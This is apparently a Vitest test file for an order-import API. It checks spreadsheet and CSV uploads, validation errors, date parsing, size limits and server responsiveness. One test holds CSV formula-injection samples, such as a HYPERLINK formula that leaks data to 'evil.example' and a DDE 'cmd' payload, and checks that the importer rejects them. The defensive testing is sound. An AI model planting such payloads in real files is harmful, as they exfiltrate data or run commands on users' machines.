import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { genericOrderLines, xlsxBytes } from '../../tests/fixtures/build';
import { useHarness } from '../../tests/setup/harness';
import { expectCleanError, tokenFor } from '../../tests/setup/helpers';
import { parseDate } from './import.service';

const h = useHarness();
const fixture = (name: string) => readFileSync(join(import.meta.dirname, '../../tests/fixtures', name));

async function upload(token: string, file: { name: string; bytes: Uint8Array | string }, opts: { preset?: string; mapping?: unknown; commit?: boolean; extra?: Record<string, string> } = {}) {
  const form = new FormData();
  form.set('file', new File([file.bytes as BlobPart], file.name));
  if (opts.preset) form.set('preset', opts.preset);
  if (opts.mapping) form.set('mapping', JSON.stringify(opts.mapping));
  for (const [k, v] of Object.entries(opts.extra ?? {})) form.set(k, v);
  const res = await h.app.request(`/api/import/orders${opts.commit ? '?commit=true' : ''}`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form });
  return { status: res.status, body: (await res.json()) as any };
}

const orderCount = async () => Number((await h.deps.db.selectFrom('orders').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);

describe('order import', () => {
  it('a dry run of the D365 export previews two orders with their lines and writes nothing; the commit creates them as one audited import', async () => {
    const { accessToken } = await h.login('manager');
    const before = await orderCount();
    const file = { name: 'd365-sales-order-lines.xlsx', bytes: fixture('d365-sales-order-lines.xlsx') };
    const dry = await upload(accessToken, file, { preset: 'd365' });
    expect(dry.status).toBe(200);
    expect(dry.body).toMatchObject({ committed: false, rowCount: 3, errorCount: 0, orders: 2 });
    expect(dry.body.rows[0].values).toMatchObject({ externalRef: 'SO-004711', customerName: 'Volvo Cars Torslanda', dueDate: '2026-12-18', sku: 'BRK-100', quantity: 1200 });
    expect(dry.body.rows[2].values.dueDate).toBe('2027-01-08');
    expect(await orderCount()).toBe(before);

    const done = await upload(accessToken, file, { preset: 'd365', commit: true });
    expect(done.status).toBe(201);
    expect(done.body.orderCount).toBe(2);
    expect(await orderCount()).toBe(before + 2);
    const so = await h.deps.db.selectFrom('orders').selectAll().where('externalRef', '=', 'SO-004711').executeTakeFirstOrThrow();
    expect(so).toMatchObject({ source: 'import', status: 'draft', customerName: 'Volvo Cars Torslanda', dueDate: '2026-12-18' });
    const items = await h.deps.db.selectFrom('orderItems').selectAll().where('orderId', '=', so.id).execute();
    expect(items.map((i) => Number(i.quantity)).sort((a, b) => a - b)).toEqual([1200, 5000]);
    const stages = await h.deps.db.selectFrom('stages').selectAll().where('orderId', '=', so.id).execute();
    expect(stages.length).toBe(4); // BRK-100: 3 stages, CLP-400: 1
    // Time-ordered ids (UUID v7), in the order the import made them: item by item, stage by stage,
    // so that a large import appends to the stages table and the change log's row index.
    const itemOrder = new Map(items.map((i) => [i.id, i.id]));
    const made = [...stages].sort((a, b) => itemOrder.get(a.orderItemId)!.localeCompare(itemOrder.get(b.orderItemId)!) || a.sequence - b.sequence);
    expect(made.map((st) => st.id[14])).toEqual(['7', '7', '7', '7']);
    expect(made.map((st) => st.id)).toEqual(made.map((st) => st.id).sort());
    expect(made.every((st) => st.id > items.find((i) => i.id === st.orderItemId)!.id)).toBe(true);
    const audit = await h.deps.db.selectFrom('auditLog').selectAll().where('mutationName', '=', 'import.orders').execute();
    expect(audit).toHaveLength(1);
    expect(JSON.parse(audit[0].after!)).toMatchObject({ orders: 2, lines: 3, preset: 'd365' });

    const again = await upload(accessToken, file, { preset: 'd365', commit: true });
    expect(again.status).toBe(400);
    expect(again.body.error.code).toBe('import_has_errors');
    expect(JSON.stringify(again.body.error.details)).toContain('duplicate external reference');
    expect(await orderCount()).toBe(before + 2);
  });

  it('names each bad row: bad date, unknown product, missing and fractional quantity, and a commit with errors writes nothing', async () => {
    const { accessToken } = await h.login('manager');
    const before = await orderCount();
    const file = { name: 'orders-with-errors.csv', bytes: fixture('orders-with-errors.csv') };
    const dry = await upload(accessToken, file);
    expect(dry.status).toBe(200);
    const errs = Object.fromEntries(dry.body.rows.map((r: any) => [r.values.externalRef, r.errors.map((e: any) => e.message).join('; ')]));
    expect(errs['PO-6001']).toBe('');
    expect(errs['PO-6002']).toContain('is not a date');
    expect(errs['PO-6003']).toContain('unknown product "NOPE-999"');
    expect(errs['PO-6004']).toContain('quantity is missing');
    expect(errs['PO-6005']).toContain('not a whole number');
    const commit = await upload(accessToken, file, { commit: true });
    expect(commit.status).toBe(400);
    expect(commit.body.error.message).toContain('4 of 5 rows have errors');
    expect(await orderCount()).toBe(before);
  });

  it('the generic CSV groups lines by order reference and keeps quoted commas', async () => {
    const { accessToken } = await h.login('manager');
    const r = await upload(accessToken, { name: 'orders-generic.csv', bytes: fixture('orders-generic.csv') }, { commit: true });
    expect(r.status).toBe(201);
    expect(r.body.orderCount).toBe(2);
    const o = await h.deps.db.selectFrom('orders').selectAll().where('externalRef', '=', 'PO-5002').executeTakeFirstOrThrow();
    expect(o.customerName).toBe('Electrolux, Stockholm');
    expect(o.notes).toBe('Pack in 500s');
  });

  it('refuses a wrong file type, an empty sheet, formulas and error cells, a 10 MB file, a bad mapping and an operator — and writes nothing', async () => {
    const { accessToken } = await h.login('manager');
    const op = await h.login('operator.press');
    const before = await orderCount();
    const pdf = await upload(accessToken, { name: 'orders.pdf', bytes: '%PDF-1.4' });
    expect(pdf).toMatchObject({ status: 400, body: { error: { code: 'validation_failed', message: 'Only .xlsx and .csv files can be imported.' } } });
    const fake = await upload(accessToken, { name: 'orders.xlsx', bytes: 'Order ref,Customer\n' });
    expect(fake.body.error.message).toContain('not an Excel workbook');
    const empty = await upload(accessToken, { name: 'empty.xlsx', bytes: fixture('empty.xlsx') });
    expect(empty.body.error.message).toBe('The sheet is empty.');
    const formulas = await upload(accessToken, { name: 'formulas.xlsx', bytes: fixture('formulas.xlsx') }, { commit: true });
    expect(formulas.status).toBe(400);
    expect(JSON.stringify(formulas.body.error.details)).toContain('cell E2 holds a formula');
    expect(JSON.stringify(formulas.body.error.details)).toContain('cell E3 holds an error (#REF!)');
    const huge = await upload(accessToken, { name: 'big.csv', bytes: 'x'.repeat(10 * 1024 * 1024) });
    expect(huge).toMatchObject({ status: 413, body: { error: { code: 'payload_too_large' } } });
    const badMap = await upload(accessToken, { name: 'd365.xlsx', bytes: fixture('d365-sales-order-lines.xlsx') }, { preset: 'generic' });
    expect(badMap.status).toBe(400);
    expect(badMap.body.error.details.map((d: any) => d.field)).toContain('mapping.sku');
    const remapped = await upload(accessToken, { name: 'd365.xlsx', bytes: fixture('d365-sales-order-lines.xlsx') }, { preset: 'generic', mapping: { externalRef: 'Sales order', customerName: 'Customer name', dueDate: 'Requested ship date', sku: 'Item number', quantity: 'Quantity' } });
    expect(remapped.status).toBe(200);
    // The columns now fit; the generic preset reads 12/18/2026 day-first, which is no date.
    expect(remapped.body.rows[0].errors).toEqual([{ field: 'dueDate', message: '"12/18/2026" is not a date' }]);
    const unknownField = await upload(accessToken, { name: 'orders-generic.csv', bytes: fixture('orders-generic.csv') }, { extra: { sneaky: '1' } });
    expect(unknownField.body.error.code).toBe('validation_failed');
    const forbidden = await upload(op.accessToken, { name: 'orders-generic.csv', bytes: fixture('orders-generic.csv') }, { commit: true });
    expect(forbidden.status).toBe(403);
    expect(await orderCount()).toBe(before);
  });

  it('refuses text a spreadsheet would run as a formula, even behind a space, tab, line break or no-break space, naming the cell; numbers stay numbers', async () => {
    const token = await tokenFor(h, 'manager');
    const before = await orderCount();
    const file = { name: 'injection.csv', bytes: [
      'Order ref,Customer,Due date,SKU,Quantity,Priority,Notes',
      'PO-7001," =HYPERLINK(""http://evil.example/?leak=1"",""Click"")",2026-12-10,BRK-100,10,,',
      'PO-7002,"\t=1+1",2026-12-10,BRK-100,10,,',
      'PO-7003,"\r\n=1+1",2026-12-10,BRK-100,10,,',
      'PO-7004,\u00A0@SUM(A1),2026-12-10,BRK-100,10,,',
      "PO-7005,ACME,2026-12-10,BRK-100,10,,+cmd|' /C calc'!A0",
      'PO-7006,- ACME,2026-12-10,BRK-100,10,,',
      'PO-7007,ACME,2026-12-10,BRK-100,-5,+2,-',
    ].join('\n') };
    const dry = await upload(token, file);
    expect(dry.status).toBe(200);
    const byRef = Object.fromEntries(dry.body.rows.map((r: any) => [r.values.externalRef, r]));
    const messages = (ref: string) => byRef[ref].errors.map((e: any) => e.message);
    expect(messages('PO-7001')).toEqual(['cell B2 starts with "=", which a spreadsheet would run as a formula; remove the "="']);
    expect(messages('PO-7002')).toEqual([expect.stringContaining('cell B3 starts with "="')]);
    expect(messages('PO-7003')).toEqual([expect.stringContaining('cell B4 starts with "="')]);
    expect(messages('PO-7004')).toEqual([expect.stringContaining('cell B5 starts with "@"')]);
    expect(messages('PO-7005')).toEqual([expect.stringContaining('cell G6 starts with "+"')]);
    expect(messages('PO-7006')).toEqual([expect.stringContaining('cell B7 starts with "-"')]);
    // The refused text is not echoed back in the preview either.
    expect(byRef['PO-7001'].values.customerName).toBeNull();
    // -5 is a number (and too small), +2 a priority, a lone "-" an empty note: none of them is a formula.
    expect(messages('PO-7007')).toEqual(['"-5" is not a whole number of at least 1']);
    expect(byRef['PO-7007'].values).toMatchObject({ priority: 2, notes: '-' });

    const xlsx = await xlsxBytes(genericOrderLines(1), (ws) => { ws.getCell('B2').value = ' =HYPERLINK("http://evil.example","x")'; });
    const commit = await upload(token, { name: 'injection.xlsx', bytes: xlsx }, { commit: true });
    expect(commit.status).toBe(400);
    expect(JSON.stringify(commit.body.error.details)).toContain('cell B2 starts with \\"=\\"');
    expect(await orderCount()).toBe(before);
  });

  it('reads ISO, day-first and month-first dates and Excel serials, and refuses impossible ones', () => {
    expect(parseDate('2026-12-01', 'dmy')).toBe('2026-12-01');
    expect(parseDate('01/12/2026', 'dmy')).toBe('2026-12-01');
    expect(parseDate('12/01/2026', 'mdy')).toBe('2026-12-01');
    expect(parseDate(46357, 'mdy')).toBe('2026-12-01');
    expect(parseDate('2026-02-30', 'dmy')).toBeNull();
    expect(parseDate('tomorrow', 'dmy')).toBeNull();
  });
});

describe('order import: sheet size limits and a server that keeps answering', () => {
  it('refuses a stray cell at row 1,048,576 with a 400 that names the cell and the row limit, and writes nothing', async () => {
    const token = await tokenFor(h, 'manager');
    const before = await orderCount();
    const bytes = await xlsxBytes(genericOrderLines(3), (ws) => { ws.getCell('C1048576').value = 'stray'; });
    const r = await upload(token, { name: 'stray.xlsx', bytes }, { commit: true });
    expect(r.status).toBe(400);
    expectCleanError(r.body, 'validation_failed');
    expect(r.body.error.message).toContain('Cell C1048576');
    expect(r.body.error.message).toContain('rows 1 to 25,000');
    expect(r.body.error.details).toEqual([{ field: 'file', message: expect.stringContaining('C1048576') }]);
    expect(await orderCount()).toBe(before);
  });

  it('refuses a value beyond column 100 in a workbook and in a CSV, naming the cell and the column limit', async () => {
    const token = await tokenFor(h, 'manager');
    const wide = await xlsxBytes(genericOrderLines(2), (ws) => { ws.getCell('CW3').value = 'far right'; });
    const x = await upload(token, { name: 'wide.xlsx', bytes: wide });
    expect(x.status).toBe(400);
    expect(x.body.error.code).toBe('validation_failed');
    expect(x.body.error.message).toContain('Cell CW3');
    expect(x.body.error.message).toContain('columns A to CV');
    const csv = genericOrderLines(2).map((r) => r.join(','));
    csv[1] += ','.repeat(200) + 'far right';
    const c = await upload(token, { name: 'wide.csv', bytes: csv.join('\n') });
    expect(c.status).toBe(400);
    expect(c.body.error.message).toContain('columns A to CV');
  });

  it('refuses a CSV with a value far below the data, or with more data rows than one import takes, reading no further than row 25,000', async () => {
    const token = await tokenFor(h, 'manager');
    const lines = genericOrderLines(2).map((r) => r.join(','));
    const stray = await upload(token, { name: 'stray.csv', bytes: lines.join('\n') + '\n'.repeat(40_000) + 'stray\n' });
    expect(stray.status).toBe(400);
    expect(stray.body.error.message).toContain('rows 1 to 25,000');
    const many = await upload(token, { name: 'many.csv', bytes: genericOrderLines(20_001).map((r) => r.join(',')).join('\n') });
    expect(many.status).toBe(400);
    expect(many.body.error.message).toBe('The sheet has 20,001 data rows; at most 20,000 can be imported at once. Split the file.');
    const long = await upload(token, { name: 'long.csv', bytes: genericOrderLines(30_000).map((r) => r.join(',')).join('\n') });
    expect(long.body.error.message).toBe('The sheet has more than 20,000 data rows; at most 20,000 can be imported at once. Split the file.');
  });

  it('keeps answering /health while a 20,000-line workbook is read, and previews every line of it', async () => {
    const token = await tokenFor(h, 'manager');
    const bytes = await xlsxBytes(genericOrderLines(20_000));
    let settled = false;
    const pending = upload(token, { name: 'big.xlsx', bytes }).finally(() => { settled = true; });
    let answeredMeanwhile = 0;
    while (!settled) {
      await new Promise((r) => setTimeout(r, 20));
      const health = await h.app.request('/health');
      expect(health.status).toBe(200);
      if (!settled) answeredMeanwhile++;
    }
    expect(answeredMeanwhile).toBeGreaterThan(0);
    const r = await pending;
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ rowCount: 20_000, errorCount: 0, orders: 5_000 });
  });
});

